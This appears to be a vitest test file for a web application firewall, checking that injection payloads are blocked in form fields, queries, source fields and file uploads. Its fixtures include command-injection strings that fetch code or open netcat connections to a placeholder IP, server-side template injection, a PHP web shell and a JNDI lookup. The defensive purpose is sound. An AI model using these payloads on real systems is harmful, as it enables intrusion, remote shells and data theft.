import { describe, expect, test } from 'vitest';
import { findings, isStopped, posted, stops } from '../../../../../../tests/support/wafFindings.ts';

const words =
  'thanks a lot for the quick answer we have tried it again today and it looks much better than before so please keep the ticket open until our colleague comes back from holiday';
const block = 'It printed this:\n\n```\nready\n```\n\n';

describe('what surrounds an attack changes nothing', () => {
  const paddings: readonly (readonly [how: string, pad: (attack: string) => string])[] = [
    ['words behind it', (attack) => `${attack} ${words}`],
    ['words on a line behind it', (attack) => `${attack}\n${words}`],
    ['words before it', (attack) => `${words} ${attack}`],
    ['words on a line before it', (attack) => `${words}\n${attack}`],
    ['a block of code before it', (attack) => `${block}${attack}`],
    ['a block of code behind it', (attack) => `${attack}\n${block}`],
    ['elements of code around it', (attack) => `<pre>a</pre> ${attack} <code>b</code>`],
    ['spans around it', (attack) => `We ran \`a\` first. ${attack} Then \`b\` was next.`],
    ['lines of code before it', (attack) => `const a = 1;\nconst b = f(a);\n${attack}`],
    ['keys before it', (attack) => `name: a\nkind: b\n${attack}`],
  ];
  const attacks = [
    'photo.jpg; curl http://x|sh',
    'photo.jpg && wget http://198.51.100.7/a -O /tmp/a',
    'photo.jpg | nc 198.51.100.7 4444',
    'photo.jpg $(curl http://198.51.100.7/a)',
    'a\nwget http://198.51.100.7/a -O /tmp/a',
    'a; cat /etc/passwd',
    '{{7*7}}',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  ];
  const cases = paddings.flatMap(([how, pad]) => attacks.map((attack) => [attack, how, pad(attack)] as const));
  test.each(cases)('%j with %s, in a form', (_, __, value) => expect(stops(posted({ text: value }))).toBe(true));
  test.each(cases)('%j with %s, in a query', (_, __, value) => expect(isStopped(value)).toBe(true));

  // Words beside code are an error of syntax: what interpreters skip are comments and strings.
  const skipped: readonly ((attack: string) => string)[] = [
    (attack) => `${attack} // ${words}`,
    (attack) => `${attack} # ${words}`,
    (attack) => `/* ${words} */ ${attack}`,
    (attack) => `// ${words}\n${attack}`,
    (attack) => `"${words}"; ${attack}`,
    (attack) => `'${words}'; ${attack}`,
    (attack) => `a = 1;\nb = 2;\n${attack}`,
    (attack) => `${block}${attack}`,
    (attack) => `/* <pre> */ ${attack} /* </pre> */`,
    (attack) => `// <pre>\n${attack}\n// </pre>`,
    (attack) => `"<code>"; ${attack} "</code>"`,
    (attack) => `"a \\" <code>"; ${attack} "</code>"`,
    (attack) => `b'<code>'; ${attack} b'</code>'`,
    (attack) => `/*\n$ */ ${attack} /*\n*/`,
    (attack) => `/*\nhello there */ ${attack}`,
    (attack) => `#!/bin/sh\n${attack}`,
  ];
  const codes = [
    'phpinfo();',
    "system('id');",
    "'.system('id').'",
    "require('child_process').execSync('id')",
    "__import__('os').system('id')",
  ];
  test.each(skipped.flatMap((pad) => codes.map(pad)))('code: %j', (value) => {
    expect(stops(posted({ text: value }))).toBe(true);
    expect(isStopped(value)).toBe(true);
  });
});

describe('code that a text quotes', () => {
  const command = 'curl -fsSL https://example.com/install | sh';
  const quoted = {
    'a block': `Install it:\n\n\`\`\`sh\n${command}\n\`\`\`\n`,
    'a block in a list': `1. Install it:\n   \`\`\`\n   ${command}\n   \`\`\`\n`,
    'a span': `Install it with \`${command}\` and start it.`,
    'a span with more backticks': `Install it with \`\`${command}\`\` and start it.`,
    'an element': `<p>Install it:</p><pre>${command}</pre>`,
    'an element in a line': `<p>Install it with <code>${command}</code> first.</p>`,
    'a block of a tracker': `Install it:\n{code:bash}\n${command}\n{code}`,
    'a line behind a prompt': `Install it:\n$ ${command}\n`,
    'a line behind a prompt with a name': `Install it:\nana@web:~# ${command}\n`,
    'an entry of a crontab': `My crontab:\n*/5 * * * 1-5 ${command}\n`,
    'a block of a forum': `Install it: [code]\n${command}\n[/code]`,
  };
  test.each(Object.entries(quoted))('%s in a form', (_, value) => {
    expect(findings(posted({ text: value }))).toEqual(['rce-document']);
  });
  test.each(Object.entries(quoted))('not %s in a query', (_, value) => expect(isStopped(value)).toBe(true));
  test('not in a field that an application passes on', () => {
    for (const name of ['cmd', 'host', 'file', 'data.path', 'urls[0]', 'user[email]'])
      expect(stops(posted({ [name]: quoted['a block'] }))).toBe(true);
  });
  test('not without the end of the block', () => expect(stops(posted({ text: `\`\`\`sh\n${command}\n` }))).toBe(true));
  test('not if the backticks belong to a word', () => expect(stops(posted({ text: `some words a\`${command}\`b more words` }))).toBe(true));
  test.each(['a; `echo wget` http://198.51.100.7/a -O /tmp/a and more words', '`echo wget` http://198.51.100.7/a and more words'])(
    'not if a shell would run what it prints: %j',
    (value) => {
      expect(isStopped(value)).toBe(true);
      expect(stops(posted({ text: value }))).toBe(true);
    },
  );
  test('tags, templates and lookups are run wherever they stand', () => {
    expect(stops(posted({ text: 'We use `{{7*7}}` here.' }))).toBe(true);
    expect(stops(posted({ text: '```\n<?php system($_GET[1]);\n```\n' }))).toBe(true);
    expect(stops(posted({ text: ['```\n$', '{jndi:ldap://198.51.100.7/a}\n```\n'].join('') }))).toBe(true);
  });
});

describe('source code as a whole value', () => {
  test.each([
    'FROM debian:12\nRUN apt-get update && apt-get install -y curl; rm -rf /var/lib/apt\nCMD ["sh"]',
    'steps:\n  - run: npm ci && npm test | tee log.txt\n  - name: done',
    '#!/bin/sh\nset -e\ncurl -fsSL https://example.com/install | sh\n',
  ])('%j', (value) => expect(stops(posted({ source: value }))).toBe(false));
  test.each([
    'const a = 1;\nconst b = 2;\n; curl http://x|sh',
    'a = 1\nb = 2\nc = `curl http://x`',
    'FROM a\nphoto.jpg; curl http://x|sh\nCMD b',
    'a: 1\nb: 2\nc: x; curl http://x|sh',
  ])('not %j', (value) => expect(stops(posted({ source: value }))).toBe(true));
});

describe('the content of a file', () => {
  const upload = (disposition: string, content: string) => ({
    url: '/upload',
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data; boundary=x' },
    body: `--x\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${content}\r\n--x--\r\n`,
  });
  test('is no argument of a command', () => {
    expect(stops(upload('name="a"; filename="a.txt"', 'x; curl http://x|sh'))).toBe(false);
    expect(stops(upload('name="a"', 'x; curl http://x|sh'))).toBe(true);
  });
  test('may be a field for origins that read the name of the file otherwise', () => {
    expect(stops(upload('name="a"; filename=""', 'x; curl http://x|sh'))).toBe(true);
    expect(stops(upload('name="a"; filename*=utf-8\'\'a.txt', 'x; curl http://x|sh'))).toBe(true);
  });
  test('may make a page', () => expect(stops(upload('name="a"; filename="a.txt"', '<?php system($_GET[1]);'))).toBe(true));
});
